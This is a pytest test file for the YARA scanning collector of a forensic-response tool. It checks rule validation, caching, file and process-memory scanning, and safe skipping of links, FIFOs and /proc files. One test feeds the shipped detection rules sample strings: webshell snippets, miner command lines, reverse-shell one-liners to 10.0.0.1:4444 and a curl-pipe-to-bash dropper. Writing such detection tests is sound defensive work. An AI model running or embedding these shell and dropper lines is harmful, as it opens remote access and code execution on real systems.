"""The yara collector: rules checked and cached, files and process memory scanned safely."""
from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from ossec_dfir.collectors.yara import rules as _yararules
from ossec_dfir.collectors.base import build_params, get_collector
from ossec_dfir.errors import ConfigError
from tests.conftest import wait_collector_entry, AR_DIR, ROOT, ar_env, evidence_path, make_request

yara = pytest.importorskip("yara")

# Built at run time so that no file of the checkout holds the marker as such.
MARK = "DFIR" + "-TEST-" + "MARK-" + "7f3a91"
RULES = f"""
rule test_marker : testtag
{{
    meta:
        description = "test marker"
        score = 42
    strings:
        $m = "{MARK}"
    condition:
        $m
}}

rule test_php_extension
{{
    condition:
        extension == ".php" and filesize > 0
}}
"""
FAST = {"timeout_s": 60.0, "scan_processes": False, "use_cache": False, "threads": 2}


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    path = tmp_path / "rules"
    path.mkdir(mode=0o700)
    (path / "test.yar").write_text(RULES)
    (path / "test.yar").chmod(0o600)
    return path


@pytest.fixture
def scan_root(tmp_path: Path) -> Path:
    root = tmp_path / "scan"
    (root / "sub").mkdir(parents=True)
    (root / "hit.bin").write_bytes(b"\0" * 100 + MARK.encode() + b"\0" * 10)
    (root / "sub" / "clean.txt").write_text("nothing to see\n")
    (root / "sub" / "page.php").write_text("<?php echo 1; ?>\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.bin").write_text(MARK)
    (root / "link").symlink_to(outside / "target.bin")
    (root / "linkdir").symlink_to(outside)
    os.mkfifo(root / "fifo")
    return root


def matches_of(incident, outcome) -> list[dict]:
    run_dir = outcome.files[0].rsplit("/", 1)[0]
    text = evidence_path(incident, f"{run_dir}/matches.jsonl").read_text()
    return [json.loads(line) for line in text.splitlines()]


def summary_of(incident, outcome) -> dict:
    run_dir = outcome.files[0].rsplit("/", 1)[0]
    return json.loads(evidence_path(incident, f"{run_dir}/summary.json").read_text())


def test_file_scan_matches_skips_links_and_fifo(run_collector, rules_dir, scan_root):
    started = time.monotonic()
    outcome, incident = run_collector("yara", {**FAST, "rules_dirs": [str(rules_dir)],
                                               "roots": [str(scan_root)]})
    assert time.monotonic() - started < 30  # the FIFO did not hang the scan
    assert outcome.outcome == "complete", outcome.reason
    lines = matches_of(incident, outcome)
    hits = {(os.path.relpath(m["path"], scan_root), m["rule"]) for m in lines}
    assert hits == {("hit.bin", "test_marker"), ("sub/page.php", "test_php_extension")}
    hit = next(m for m in lines if m["rule"] == "test_marker")
    assert hit["namespace"] == "test" and hit["tags"] == ["testtag"]
    assert hit["meta"] == {"description": "test marker", "score": 42}
    assert hit["strings"][0]["offset"] == 100
    assert hit["strings"][0]["data_ascii"] == MARK
    assert hit["size"] == 110 + len(MARK) and hit["mtime"].endswith("Z")
    import hashlib
    assert hit["sha256"] == hashlib.sha256((scan_root / "hit.bin").read_bytes()).hexdigest()
    files = summary_of(incident, outcome)["files"]
    assert files["scanned"] == 3 and files["matched"] == 2
    assert files["skipped"] == {"special_file": 1, "symlink": 2}
    assert outcome.summary["files_matched"] == 2
    assert {os.path.basename(f) for f in outcome.files} == {"rules.json", "matches.jsonl",
                                                            "summary.json"}
    manifest = {e["path"] for e in incident.manifest() if e["type"] == "file"}
    assert set(outcome.files) <= manifest


@pytest.mark.parametrize("policy", ["skip", "truncate"])
def test_oversized_file_follows_policy(run_collector, rules_dir, tmp_path, policy):
    root = tmp_path / "big"
    root.mkdir()
    (root / "head.bin").write_bytes(MARK.encode() + b"\0" * 5000)
    (root / "tail.bin").write_bytes(b"\0" * 5000 + MARK.encode())
    outcome, incident = run_collector("yara", {
        **FAST, "rules_dirs": [str(rules_dir)], "roots": [str(root)],
        "max_file_bytes": 4096, "oversize_policy": policy})
    assert outcome.outcome == "complete", outcome.reason
    files = summary_of(incident, outcome)["files"]
    lines = matches_of(incident, outcome)
    if policy == "skip":
        assert lines == []
        assert files["skipped"] == {"too_large": 2} and files["scanned"] == 0
    else:
        assert [os.path.basename(m["path"]) for m in lines] == ["head.bin"]
        assert lines[0]["truncated_scan"] is True and lines[0]["scanned_bytes"] == 4096
        assert files["truncated"] == 2 and files["scanned"] == 2


def test_alert_file_is_scanned_first(run_collector, rules_dir, scan_root, tmp_path):
    alert = tmp_path / "alerted.txt"
    alert.write_text("x" + MARK)
    request = make_request("127.0.0.2", filename=str(alert))
    outcome, incident = run_collector("yara", {**FAST, "rules_dirs": [str(rules_dir)],
                                               "roots": [str(scan_root)]}, request=request)
    lines = matches_of(incident, outcome)
    assert lines[0]["path"] == str(alert) and lines[0]["origin"] == "alert"
    assert len(lines) == 3


def test_writable_rules_file_is_refused_before_any_scan(run_collector, rules_dir, scan_root):
    (rules_dir / "test.yar").chmod(0o666)
    outcome, incident = run_collector("yara", {**FAST, "rules_dirs": [str(rules_dir)],
                                               "roots": [str(scan_root)]})
    assert outcome.outcome == "failed"
    assert f"{rules_dir}/test.yar: rules file refused: writable by group or others " \
           "(mode 0666)" in outcome.reason
    assert outcome.files == []


def test_broken_rule_reports_file_and_line(run_collector, rules_dir, scan_root):
    (rules_dir / "broken.yar").write_text("rule ok { condition: true }\n\n"
                                          "rule bad { strings: $a = \"x\" condition: $b }\n")
    outcome, _ = run_collector("yara", {**FAST, "rules_dirs": [str(rules_dir)],
                                        "roots": [str(scan_root)]})
    assert outcome.outcome == "failed"
    assert f"{rules_dir}/broken.yar: line 3: undefined string" in outcome.reason
    problems = _yararules.check_rules([str(rules_dir)])
    assert len(problems) == 1 and "broken.yar: line 3" in problems[0]


def test_check_rules_reports_unsafe_directory_and_missing(tmp_path, rules_dir):
    assert _yararules.check_rules([str(rules_dir)]) == []
    rules_dir.chmod(0o777)
    assert "writable by group or others (mode 0777)" in _yararules.check_rules(
        [str(rules_dir)])[0]
    assert "rules directory not usable" in _yararules.check_rules([str(tmp_path / "no")])[0]


def test_missing_rules_directory_is_a_skip(run_collector, tmp_path):
    outcome, _ = run_collector("yara", {**FAST, "rules_dirs": [str(tmp_path / "none")]})
    assert outcome.outcome == "skipped"
    assert "no rules directory exists" in outcome.reason


def test_compiled_rules_are_cached_root_only(run_collector, rules_dir, scan_root, store):
    params = {**FAST, "use_cache": True, "rules_dirs": [str(rules_dir)],
              "roots": [str(scan_root)]}
    first, _ = run_collector("yara", params)
    second, incident = run_collector("yara", params)
    assert first.summary["rules"]["cache"] == "miss"
    assert second.summary["rules"]["cache"] == "hit"
    assert len(matches_of(incident, second)) == 2
    cache = Path(store.root) / ".state" / "yara-cache"
    assert cache.stat().st_mode & 0o777 == 0o700
    entries = list(cache.iterdir())
    assert len(entries) == 1 and entries[0].stat().st_mode & 0o777 == 0o600
    rules_json = json.loads(evidence_path(incident, second.files[0]).read_text())
    assert entries[0].name == rules_json["key"] + ".yarc"


def test_params_are_validated():
    cls = get_collector("yara")
    with pytest.raises(ConfigError, match="oversize_policy"):
        build_params(cls, {"oversize_policy": "maybe"})
    with pytest.raises(ConfigError, match="roots"):
        build_params(cls, {"roots": ["relative"]})
    assert build_params(cls, {}).rules_dirs == ("etc/yara",)


@pytest.fixture
def marked_child():
    """Start a child holding MARK in its memory (not in its argv); yield its pid."""
    code = ("import sys,time; m=sys.stdin.readline().strip().encode()*4; "
            "print('ready', flush=True); time.sleep(60)")
    child = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, text=True)
    child.stdin.write(MARK + "\n")
    child.stdin.flush()
    assert child.stdout.readline().strip() == "ready"
    yield child
    child.kill()
    child.wait()


def test_process_scan_finds_marked_child_not_ourselves(run_collector, rules_dir, marked_child):
    outcome, incident = run_collector("yara", {
        **FAST, "scan_processes": True, "scan_files": False, "rules_dirs": [str(rules_dir)],
        "process_timeout_s": 10})
    assert outcome.outcome == "complete", outcome.reason
    lines = [m for m in matches_of(incident, outcome) if m["rule"] == "test_marker"]
    pids = {m["pid"] for m in lines}
    assert marked_child.pid in pids
    assert os.getpid() not in pids  # holds MARK too, but is an ancestor of the scanner
    line = next(m for m in lines if m["pid"] == marked_child.pid)
    assert line["type"] == "process" and line["exe"] == os.path.realpath(sys.executable)
    assert line["cmdline"][0] == sys.executable
    procs = summary_of(incident, outcome)["processes"]
    assert procs["skipped"]["self_or_ancestor"] >= 2
    assert procs["scanned"] >= 1


def test_process_scan_of_suspects_only_and_dump(run_collector, rules_dir, tmp_path):
    # An address of its own: other tests on this host may talk to 127.0.0.2.
    ip = "127.0.0.97"
    listener = socket.socket()
    listener.bind((ip, 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    code = ("import socket,sys,time; s=socket.create_connection((sys.argv[2], int(sys.argv[1])));"
            "m=sys.stdin.readline().strip().encode()*4; print('ready', flush=True); "
            "time.sleep(60)")
    child = subprocess.Popen([sys.executable, "-c", code, str(port), ip], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, text=True)
    try:
        conn, _ = listener.accept()
        child.stdin.write(MARK + "\n")
        child.stdin.flush()
        assert child.stdout.readline().strip() == "ready"
        outcome, incident = run_collector("yara", {
            **FAST, "scan_processes": True, "scan_files": False, "process_scope": "suspects",
            "rules_dirs": [str(rules_dir)], "dump_matched_processes": True,
            "dump_max_bytes": 64 << 20}, srcip=ip)
        conn.close()
    finally:
        child.kill()
        child.wait()
        listener.close()
    procs = summary_of(incident, outcome)["processes"]
    assert procs["scanned"] >= 1 and procs["matched"] == 1
    lines = matches_of(incident, outcome)
    assert {m["pid"] for m in lines} == {child.pid}
    dumps = summary_of(incident, outcome)["dumps"]
    assert [d["pid"] for d in dumps] == [child.pid]
    core = evidence_path(incident, dumps[0]["file"])
    assert core.read_bytes()[:4] == b"\x7fELF"


def test_shipped_example_rules_match_their_samples(tmp_path):
    # Copied: a checkout's file modes depend on the umask; the loader refuses 0664.
    shipped = tmp_path / "shipped"
    shipped.mkdir(mode=0o700)
    for path in (ROOT / "etc" / "yara").glob("*.yar"):
        (shipped / path.name).write_bytes(path.read_bytes())
    loaded = _yararules.load_rules([str(shipped)])
    assert len(loaded.files) == 3
    samples = {
        "webshell_php_eval_request": b"<?php @eval(base64_decode($_POST['c'])); ?>",
        "webshell_php_backticks_request": b"<?php echo `$_GET['x']`; ?>",
        "webshell_jsp_runtime_exec":
            b'<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
        "webshell_aspx_process_start":
            b'<%@ Page Language="C#" %><% Process.Start("cmd.exe", Request["c"]); %>',
        "miner_stratum_pool_url": b"./xm -o stratum+tcp://pool.example:3333 -u wallet",
        "miner_xmrig_config": b'{"donate-level": 1, "pools": [{"url": "p:1", "user": "w"}]}',
        "miner_xmrig_binary": b"\x7fELF\x02\x01" + b"\0" * 64 +
                              b"XMRig 6.0 cryptonight randomx mining.submit",
        "revshell_bash_dev_tcp": b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "revshell_netcat_exec": b"nc -e /bin/sh 10.0.0.1 4444",
        "revshell_scripting_socket_pty":
            b"import socket,os,pty;s=socket.socket();s.connect(('h',1));"
            b"os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
        "dropper_curl_pipe_shell": b"curl -fsSL http://x.example/i.sh | bash",
    }
    externals = dict(_yararules.EXTERNALS)
    for rule, data in samples.items():
        got = {m.rule for m in loaded.rules.match(data=data, externals=externals)}
        assert rule in got, (rule, got)
    benign = [b"<?php echo htmlspecialchars($_GET['q']); ?>",
              b'{"name": "app", "user": "www", "url": "https://example.org"}',
              b"#!/bin/sh\nexec /usr/bin/python3 -m http.server 8000\n",
              b"curl -fsSL -o /tmp/file.tgz https://example.org/file.tgz",
              (ROOT / "ossec_dfir" / "collectors" / "base.py").read_bytes()]
    for data in benign:
        assert loaded.rules.match(data=data, externals=externals) == [], data[:60]


def test_scan_releases_the_gil():
    """Python code keeps running while another thread scans (yara drops the GIL)."""
    rules = yara.compile(source='rule slow { strings: $a = /a[^b]{0,400}c/ condition: $a }')
    data = b"a" * (24 << 10)
    worker = threading.Thread(target=rules.match, kwargs={"data": data})
    ticks = 0
    worker.start()
    while worker.is_alive():
        ticks += 1
    worker.join()
    assert ticks > 1000


def test_active_response_executable_scans_the_alert_file(tmp_path, config_file, evidence_root,
                                                         rules_dir, scan_root):
    alert = tmp_path / "uploaded.php"
    alert.write_text("<?php " + MARK + " ?>")
    config_file.write_text(config_file.read_text() + f"""
profiles:
  dfir-yara:
    description: test scan
    steps:
      - collector: yara
        params:
          rules_dirs: ["{rules_dir}"]
          roots: ["{scan_root}"]
          scan_processes: false
""")
    # The venv's interpreter: /usr/bin/python3 may lack yara-python (python3-yara).
    argv = [sys.executable, str(AR_DIR / "dfir-yara"), "add", "-", "127.0.0.10", "1700000000.1", "550",
            "ossec", str(alert)]
    proc = subprocess.run(argv, env=ar_env(config_file), capture_output=True, timeout=30,
                          stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    entry = wait_collector_entry(evidence_root, "127.0.0.10", "yara")
    assert entry["outcome"] == "complete", entry["reason"]
    incident_dir = next(evidence_root.glob("*_127.0.0.10"))
    lines = [json.loads(x) for x in
             (incident_dir / "yara/01/matches.jsonl").read_text().splitlines()]
    assert [(m["origin"], m["path"], m["rule"]) for m in lines[:2]] == [
        ("alert", str(alert), "test_marker"), ("alert", str(alert), "test_php_extension")]
    assert stat.S_IMODE(os.stat(AR_DIR / "dfir-yara").st_mode) == 0o755


def test_time_budget_stops_the_scan_partial(run_collector, tmp_path):
    slow_rules = tmp_path / "slow"
    slow_rules.mkdir(mode=0o700)
    (slow_rules / "slow.yar").write_text(
        "rule slow { strings: $a = /a[^b]{0,400}c/ condition: $a }\n")
    root = tmp_path / "many"
    root.mkdir()
    for i in range(12):
        (root / f"f{i:02d}").write_bytes(b"a" * (24 << 10))
    started = time.monotonic()
    outcome, incident = run_collector("yara", {
        **FAST, "timeout_s": 1.0, "rules_dirs": [str(slow_rules)], "roots": [str(root)],
        "threads": 1})
    assert time.monotonic() - started < 15
    assert outcome.outcome == "partial"
    assert outcome.reason == "stopped: timeout_s=1.0 reached"
    files = summary_of(incident, outcome)["files"]
    assert files["scanned"] + sum(files["skipped"].values()) <= 12
    assert files["scanned"] < 12


def test_rules_inside_a_scanned_root_are_not_reported(run_collector, scan_root):
    """Signatures match their own source: the rules directories are never scanned."""
    inside = scan_root / "rules"
    inside.mkdir(mode=0o700)
    (inside / "test.yar").write_text(RULES)
    (inside / "test.yar").chmod(0o600)
    outcome, incident = run_collector("yara", {**FAST, "rules_dirs": [str(inside)],
                                               "roots": [str(scan_root)]})
    assert outcome.outcome == "complete", outcome.reason
    paths = {m["path"] for m in matches_of(incident, outcome)}
    assert str(inside / "test.yar") not in paths
    assert str(scan_root / "hit.bin") in paths
    assert summary_of(incident, outcome)["files"]["skipped"].get("excluded") == 1


def test_alert_file_on_a_pseudo_filesystem_is_never_read(run_collector, rules_dir, tmp_path):
    """An attacker-named file such as /proc/kcore or /proc/self/environ is not scanned."""
    from tests.conftest import make_request
    req = make_request("127.0.0.10", filename="/proc/self/environ")
    outcome, incident = run_collector("yara", {**FAST, "rules_dirs": [str(rules_dir)],
                                               "roots": []}, request=req)
    assert outcome.outcome == "complete", outcome.reason
    files = summary_of(incident, outcome)["files"]
    assert files["scanned"] == 0
    # the file and its directory (walked first, alone): neither entered
    assert files["skipped"] == {"pseudo_or_network_fs": 2}
    first, second = files["skipped_examples"]["pseudo_or_network_fs"]
    assert first == "/proc/self/environ" and second.startswith("/proc/")  # the collector's pid
